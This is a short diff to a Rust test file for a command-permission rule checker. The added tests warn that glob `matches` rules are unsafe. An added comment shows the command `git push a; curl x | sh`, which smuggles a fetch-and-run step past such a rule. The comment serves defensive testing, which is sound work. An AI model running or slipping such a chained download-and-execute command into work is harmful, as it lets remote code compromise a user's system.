@@ -30,6 +30,9 @@ fn every_problem_has_its_line_and_column() {
         (rule("allow = 'mcp:docs'"), "write `mcp:docs/*`"),
         (rule("allow = 'x'\nwhere.command.run = 'ls'"), "is `runs` meant?"),
         (rule("allow = 'x'\nwhere.command = 'ls *'"), "use `runs` or `is`"),
+        // `git push a; curl x | sh` matches, too.
+        (rule("allow = 'x'\nwhere.command.matches = 'git push *'"), "use `runs` or `is`"),
+        (rule("deny = 'x'\nexcept.command.matches = ['a*', 'b*']"), "use `runs` or `is`"),
         (
             rule("allow = 'x'\nwhere.command.runs = 'sudo'"),
             "`sudo` runs the program in its arguments",
